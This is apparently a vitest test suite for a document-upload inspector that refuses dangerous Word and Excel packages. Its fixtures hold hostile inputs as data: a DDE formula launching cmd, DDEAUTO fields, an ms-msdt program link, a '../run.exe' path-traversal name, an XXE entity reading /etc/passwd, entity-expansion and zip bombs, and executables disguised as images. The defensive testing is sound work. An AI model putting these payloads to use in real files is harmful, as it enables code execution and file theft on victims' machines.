import { describe, expect, it } from 'vitest';
import { inspecting } from './inspecting.ts';
import { docx, docxParts, paragraph, type Related, wordNamespace, xlsx, zip } from './package-builder.ts';
import { plainPdf } from './pdf-builder.ts';

const { refusalsOf, ready } = inspecting();
const text = paragraph('Kế hoạch');

describe('an archive that is two things at once', () => {
  const comment = (bytes: Buffer): Buffer => {
    const whole = Buffer.concat([docx(text), bytes]);
    whole.writeUInt16LE(bytes.length, whole.length - bytes.length - 2);
    return whole;
  };

  it.each([
    ['with bytes behind it', Buffer.concat([docx(text), Buffer.from('#!/bin/sh')])],
    ['with another archive behind it', Buffer.concat([docx(text), zip({ 'run.exe': 'MZ' })])],
    ['with another archive before it', Buffer.concat([zip({ 'run.exe': 'MZ' }), docx(text)])],
    ['with a PDF as its comment', comment(plainPdf())],
    ['with a PDF that readers find at its start', zip({ 'a.pdf': plainPdf(), ...docxParts(text) }, ['a.pdf'])],
  ])('is refused for that: %s', async (_, bytes) => {
    expect(await refusalsOf(bytes)).toEqual([{ code: 'foreign_data' }]);
  });

  it('may have a comment in words', async () => {
    expect((await ready(comment(Buffer.from('made by an office program')))).outcome).toBe('ready');
  });
});

describe('an entry that is not what a program unpacks it to', () => {
  const last = (bytes: Buffer, change: (record: Buffer) => void): Buffer => {
    change(bytes.subarray(bytes.lastIndexOf('PK\x01\x02', undefined, 'latin1')));
    return bytes;
  };
  const withPart = (name: string): Buffer => docx(text, { parts: { [name]: '<x/>' } });

  it('is a trick when it is a link', async () => {
    const bytes = last(withPart('word/link.xml'), (record) => {
      record.writeUInt8(3, 5);
      record.writeUInt32LE(0xa1ff0000, 38);
    });
    expect(await refusalsOf(bytes)).toEqual([{ code: 'path_trick', name: 'word/link.xml' }]);
  });

  it('is a trick when its name is longer than any disk takes', async () => {
    expect(await refusalsOf(withPart(`word/${'a'.repeat(300)}.xml`))).toMatchObject([{ code: 'path_trick' }]);
  });

  it('is a trick when it has another name for some programs', async () => {
    const other = Buffer.from('../run.exe');
    const field = Buffer.alloc(9 + other.length);
    field.writeUInt16LE(0x7075, 0);
    field.writeUInt16LE(5 + other.length, 2);
    other.copy(field, 9);
    const bytes = withPart('word/a.xml');
    const at = bytes.lastIndexOf('PK\x01\x02', undefined, 'latin1');
    const end = bytes.lastIndexOf('PK\x05\x06', undefined, 'latin1');
    const changed = Buffer.concat([bytes.subarray(0, end), field, bytes.subarray(end)]);
    changed.writeUInt16LE(field.length, at + 30);
    changed.writeUInt32LE(end - bytes.readUInt32LE(end + 16) + field.length, end + field.length + 12);
    expect(await refusalsOf(changed)).toEqual([{ code: 'path_trick', name: '../run.exe' }]);
  });

  it('is part of a bomb when the archive expands to a hundred times its size and more', async () => {
    const parts = { 'word/media/a.bmp': new Uint8Array(3 * 2 ** 20) };
    expect(await refusalsOf(docx(text, { parts }), { limits: { archiveHarmless: 2 ** 20 } })).toEqual([
      { code: 'archive_bomb', expandedMb: 3.1, limitMb: 1 },
    ]);
  });
});

describe('a field that runs or fetches something', () => {
  const run = (inner: string): string => `<w:r>${inner}</w:r>`;
  const mark = (type: string): string => run(`<w:fldChar w:fldCharType="${type}"/>`);
  const code = (words: string, element = 'instrText'): string => run(`<w:${element}>${words}</w:${element}>`);
  const field = (inner: string): string => `<w:p>${mark('begin')}${inner}${mark('end')}</w:p>`;
  const comments = `<w:comments xmlns:w="${wordNamespace}"><w:comment>${field(code('DDEAUTO cmd'))}</w:comment></w:comments>`;

  it.each([
    ['with another field in its code', docx(field(`${code('DDEAUTO ')}${field(code('PAGE'))}${code(' cmd')}`))],
    ['whose name another field makes up', docx(field(`${code(' ')}${field(code('QUOTE 68 68 69'))}${code(' cmd')}`))],
    ['that does not end', docx(`<w:p>${mark('begin')}${code('DDEAUTO cmd')}</w:p>`)],
    ['that a tracked change deletes', docx(field(`<w:del>${code('DDEAUTO cmd', 'delInstrText')}</w:del>`))],
    [
      'in a comment',
      docx(text, {
        overrides: {
          'word/comments.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml',
        },
        parts: { 'word/comments.xml': comments },
      }),
    ],
  ])('is found %s', async (_, bytes) => {
    expect(await refusalsOf(bytes)).toEqual([{ code: 'active_content', found: 'dde_field' }]);
  });

  it('is found when it links to another workbook', async () => {
    const bytes = docx(field(code('LINK Excel.Sheet.12 "C:\\\\a.xlsx"')));
    expect(await refusalsOf(bytes)).toEqual([{ code: 'active_content', found: 'remote_field' }]);
  });

  it('is not seen in a formula of fields', async () => {
    const bytes = docx(field(`${code('= ')}${field(code('NUMPAGES'))}${code(' - 1')}`) + text);
    expect((await ready(bytes)).outcome).toBe('ready');
  });
});

describe('a formula that runs or fetches something', () => {
  const sheet = (formula: string, rows = ''): Buffer =>
    xlsx({
      parts: {
        'xl/sheet1.xml': `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}<row><c><f>${formula}</f></c></row></sheetData></worksheet>`,
      },
    });

  it.each([
    ["cmd|' /c calc'!A0", 'dde_field'],
    ['WEBSERVICE("http://example.org/"&amp;A1)', 'remote_field'],
    ['_xlfn.IMAGE("http://example.org/a.png")', 'remote_field'],
  ])('is found: %s', async (formula, found) => {
    expect(await refusalsOf(sheet(formula))).toEqual([{ code: 'active_content', found }]);
  });

  it('is found behind more cells than are parsed', async () => {
    const rows = '<row><c><v>1</v></c></row>'.repeat(2_000);
    const bytes = sheet('webservice&#40;"http://example.org/")', rows);
    expect(await refusalsOf(bytes, { limits: { xmlElements: 1_000 } })).toEqual([
      { code: 'active_content', found: 'remote_field' },
    ]);
  });

  it.each(['SUM(A1:A9)', 'IF(A1="a|b!c","IMAGE (","")', "'Biểu 1'!A1", 'MYIMAGE(A1)'])(
    'is not seen in %s',
    async (formula) => {
      expect((await ready(sheet(formula))).outcome).toBe('ready');
    },
  );
});

describe('what comes from elsewhere or belongs to another program', () => {
  const related = (list: readonly Related[]): Buffer => docx(text, { related: list });
  const pictured = (bytes: string): Buffer =>
    docx(text, { defaults: { png: 'image/png' }, parts: { 'word/media/a.png': Buffer.from(bytes, 'latin1') } });
  const sheetType = 'application/vnd.openxmlformats-officedocument.spreadsheetml';

  it.each([
    [
      'linked data of a workbook',
      xlsx({
        overrides: { 'xl/connections.xml': `${sheetType}.connections+xml` },
        parts: { 'xl/connections.xml': '<x/>' },
      }),
      { code: 'external_reference', part: 'xl/connections.xml' },
    ],
    [
      'a query of a workbook',
      xlsx({
        parts: { 'customXml/item1.xml': '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">A</DataMashup>' },
      }),
      { code: 'external_reference', part: 'customXml/item1.xml' },
    ],
    [
      'an add-in',
      docx(text, {
        overrides: { 'word/webextensions/w.xml': 'application/vnd.ms-office.webextension+xml' },
        parts: { 'word/webextensions/w.xml': '<x/>' },
      }),
      { code: 'external_reference', part: 'word/webextensions/w.xml' },
    ],
    [
      'a picture elsewhere that is said to be inside',
      related([{ type: 'image', target: 'http://example.org/a.png' }]),
      { code: 'external_reference', part: 'word/document.xml' },
    ],
    [
      'a link that calls a program',
      related([{ type: 'hyperlink', target: 'ms-msdt:/id%20a', external: true }]),
      { code: 'active_content', found: 'program_link' },
    ],
    [
      'a control',
      docx(text, {
        overrides: { 'word/activeX/activeX1.xml': 'application/vnd.ms-office.activeX+xml' },
        parts: { 'word/activeX/activeX1.xml': '<x/>' },
      }),
      { code: 'embedded_objects', part: 'word/activeX/activeX1.xml' },
    ],
    [
      'a program beside the text',
      docx(text, { parts: { 'word/run.vbs': 'x' } }),
      { code: 'embedded_objects', part: 'word/run.vbs' },
    ],
    ['a program called a picture', pictured('MZ\x90'), { code: 'embedded_objects', part: 'word/media/a.png' }],
    ['a web page called a picture', pictured('<html><b>'), { code: 'embedded_objects', part: 'word/media/a.png' }],
    ['an archive called a picture', pictured('PK\x03\x04'), { code: 'embedded_objects', part: 'word/media/a.png' }],
  ])('is refused: %s', async (_, bytes, reason) => {
    expect(await refusalsOf(bytes)).toEqual([reason]);
  });

  it('is not seen in a packed picture of Windows', async () => {
    const parts = { 'word/media/a.emz': Buffer.from('1f8b08000000', 'hex') };
    expect((await ready(docx(text, { defaults: { emz: 'image/x-emz' }, parts }))).outcome).toBe('ready');
  });
});

describe('XML made to wear a reader out', () => {
  const withDocument = (xml: string): Buffer => zip({ ...docxParts(text), 'word/document.xml': xml });

  it.each([
    ['expand without end', '<!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><d>&b;</d>'],
    ['read a file', '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><d>&a;</d>'],
  ])('is refused for its entities, which %s', async (_, xml) => {
    expect(await refusalsOf(withDocument(xml))).toEqual([{ code: 'active_content', found: 'xml_entities' }]);
  });

  it('is damaged with attributes without number', async () => {
    const attributes = Array.from({ length: 600 }, (_, index) => `a${index}=""`).join(' ');
    expect(await refusalsOf(withDocument(`<d ${attributes}/>`))).toEqual([{ code: 'damaged', at: 'package_part' }]);
  });

  it('is too complex with elements without number', async () => {
    const bytes = docx(paragraph('a').repeat(400));
    expect(await refusalsOf(bytes, { limits: { xmlElements: 1_000 } })).toEqual([{ code: 'too_complex' }]);
  });

  it('is too complex with relationships without number', async () => {
    const related = Array.from({ length: 20_001 }, () => ({
      type: 'hyperlink',
      target: 'https://example.org/',
      external: true,
    }));
    expect(await refusalsOf(docx(text, { related }))).toEqual([{ code: 'too_complex' }]);
  });

  it('is too complex when its characters take too long to spell out', async () => {
    const bytes = docx(paragraph('&#97;'.repeat(300_000)));
    expect(await refusalsOf(bytes, { limits: { baseTime: 50 } })).toEqual([{ code: 'too_complex' }]);
  });

  it('is read as far as texts are read, however long one paragraph is', async () => {
    const { text: read } = await ready(docx(paragraph('Kế hoạch '.repeat(1_000)) + text), {
      limits: { textLength: 500 },
    });
    expect(read?.length).toBeLessThanOrEqual(500);
  });
});
